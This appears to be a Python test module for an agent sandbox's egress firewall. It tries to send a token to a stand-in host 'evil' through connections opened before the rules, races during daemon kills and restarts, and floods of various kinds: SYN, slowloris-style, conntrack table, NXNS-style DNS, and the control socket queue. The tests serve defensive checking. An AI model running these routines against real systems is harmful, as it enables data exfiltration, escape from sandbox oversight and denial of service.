"""Flows from before, races while the sandbox starts, stops or breaks, and exhaustion of what it has."""
import socket
import threading
import time

from common import *

BEFORE = "connections that were there before the rules; conntrack's ESTABLISHED"


def before(id, sentence, seen, prepare, act, source=BEFORE):
    def send():
        sock = prepare()
        wait_for_go()
        act(sock)
        time.sleep(0.3)
    send.__doc__ = sentence
    row(f"before.{id}", source, seen, phase="before", limit=25)(send)


def answered_udp(address, port, first):
    sock = socket.socket(family(address), socket.SOCK_DGRAM)
    sock.connect((address, port))
    sock.send(first)
    listen(sock)
    return sock


before("tcp", "A TCP connection from before.", "evil:8080 raw", lambda: dial(EVIL, 8080), lambda sock: sock.sendall(T + b"\n"))
before("tcp6", "An IPv6 connection from before.", "evil:8080 raw", lambda: dial(EVIL6, 8080), lambda sock: sock.sendall(T + b"\n"))
before("tls", "A TLS session from before.", "evil:443 tls",
       lambda: careless().wrap_socket(dial(EVIL, 443), server_hostname="www.evil.test"),
       lambda sock: sock.sendall(get("www.evil.test")))
before("udp", "An answered UDP flow from before.", "wire proto=17 dst=203.0.113.66",
       lambda: answered_udp(EVIL, ECHO, b"hello"), lambda sock: [sock.send(T) for _ in range(2)])
before("dns", "A DNS flow from before, on the same port.", "dns at=evil",
       lambda: answered_udp(EVIL, 53, question("first.evil.test")), lambda sock: sock.send(question(f"{TOKEN}.evil.test")))
before("dns_tcp", "A DNS connection from before.", "dns at=evil over=tcp", lambda: dial(EVIL, 53),
       lambda sock: sock.sendall(framed(question(f"{TOKEN}.evil.test"))))
before("gateway", "A connection to the host from before.", "gateway:2375 raw", lambda: dial(GATEWAY, 2375),
       lambda sock: sock.sendall(T + b"\n"))


def pinging():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.connect((EVIL, 0))
    sock.send(b"\x08\0\0\0\0\1\0\1first")
    listen(sock)
    return sock


before("ping", "An answered echo from before.", "wire proto=1 dst=203.0.113.66", pinging,
       lambda sock: sock.send(b"\x08\0\0\0\0\1\0\2" + T * 4))


def connecting():
    """Connects again and again until it is told that the sandbox stands."""
    kept, done = [], threading.Event()

    def connect():
        while not done.is_set():
            try:
                kept.append(dial(EVIL, 8080, 0.2))
                kept.append(answered_udp(EVIL, ECHO, b"hello"))
            except OSError:
                pass
            time.sleep(0.05)
    thread = threading.Thread(target=connect)
    thread.start()
    return kept, done, thread


def tell_all(started):
    kept, done, thread = started
    done.set()
    thread.join()
    for sock in kept:
        try:
            sock.send(T + b"\n")
        except OSError:
            pass


before("while_starting", "Connections that are made while the sandbox starts.", "evil:8080 raw or wire dst=203.0.113.66",
       connecting, tell_all, "the time between a container's start and its rules")


def hammer(seconds):
    """Tries every way again and again."""
    end = time.monotonic() + seconds
    ways = (lambda: udp(EVIL, ECHO, T, 1), lambda: udp(EVIL6, ECHO, T, 1), lambda: tell(EVIL, 8080, T + b"\n", 0.05),
            lambda: udp(EVIL, 53, question(f"{TOKEN}.evil.test"), 1),
            lambda: udp(*RESOLVER, question(f"{TOKEN}.evil.test"), 1),
            lambda: tls(EVIL, 443, "api.example", get("api.example")))
    while time.monotonic() < end:
        for way in ways:
            try:
                way()
            except OSError:
                pass
        time.sleep(0.01)


def race(phase, source, sentence):
    def send():
        print("ready", flush=True)
        hammer(2.5)
    send.__doc__ = sentence
    row(f"race.{phase}", source, "wire dst=203.0.113.66 or wire dst=2001:db8:113::66 or dns q=", phase=phase, limit=10)(send)


race("workers", "a killed filter that fails open", "Every way, while what reads hostile bytes is killed.")
race("freeze", "a stopped filter that fails open", "Every way, while the daemon stands still.")
race("kill", "a killed daemon that takes its rules along", "Every way, while the daemon is killed.")
race("restart", "rules that are flushed before they are written; docker restart", "Every way, while the sandbox starts anew.")


def fallback():
    """The plain ways, after something was used up."""
    each(lambda: tell(EVIL, 8080, T + b"\n"), lambda: udp(EVIL, ECHO, T), lambda: udp(EVIL, 53, question(f"{TOKEN}.evil.test")),
         lambda: udp(*RESOLVER, question(f"{TOKEN}.evil.test")))


def exhaust(id, source, sentence, use_up):
    def send():
        kept = use_up()
        fallback()
        time.sleep(0.3)
        del kept
    send.__doc__ = sentence
    row(f"exhaust.{id}", source, "evil", phase="alone", limit=12)(send)


def half_open():
    kept = []
    for _ in range(400):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((API, 443))
        kept.append(sock)
    time.sleep(0.5)
    return kept


def drip():
    kept = []
    for port in (443, 80) * 40:
        try:
            sock = dial(API, port)
            kept.append(sock)
        except OSError:
            pass
    for byte in b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03":
        for sock in kept:
            try:
                sock.send(bytes([byte]))
            except OSError:
                pass
        time.sleep(0.1)
    return kept


def flows():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for port in range(1024, 31024):
            try:
                sock.sendto(b"x", (API, port))
            except OSError:
                pass


def questions():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(4000):
            try:
                sock.sendto(question(f"n{number}.unlisted.test"), RESOLVER)
            except OSError:
                pass


def zone_names():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(4000):
            try:
                sock.sendto(question(f"n{number}.zone.example"), RESOLVER)
            except OSError:
                pass


def control():
    kept = []
    for _ in range(300):
        sock = socket.socket(socket.AF_UNIX)
        sock.setblocking(False)
        sock.connect_ex("/run/agent-sandbox/control.sock")
        kept.append(sock)
    return kept


def heads():
    kept = []
    for port, start in ((80, b"GET /" + b"x" * 4000), (443, b"\x16\x03\x01\xff\xff" + b"\1\0\xff\xff")) * 6:
        try:
            sock = dial(API, port)
            sock.settimeout(0.2)
            kept.append(sock)
            for _ in range(60):
                sock.sendall(start if port == 80 else start + b"x" * 4000)
        except OSError:
            pass
    return kept


exhaust("half_open", "slowloris; SYN floods", "Hundreds of connections that say nothing.", half_open)
exhaust("drip", "slowloris; github/gh-aw-firewall stress tests", "Hellos and heads that come one byte at a time.", drip)
exhaust("flows", "nf_conntrack: table full", "Tens of thousands of flows, to fill the kernel's table.", flows)
exhaust("questions", "NXNSAttack-style floods of names", "Thousands of names that are not listed.", questions)
exhaust("zone_names", "NXNSAttack-style floods of names", "Thousands of names below a listed zone.", zone_names)
exhaust("control", "a full queue at the daemon's socket", "The daemon's socket with a full queue.", control)
exhaust("heads", "memory: hellos and heads without an end", "Hellos and heads that never end.", heads)
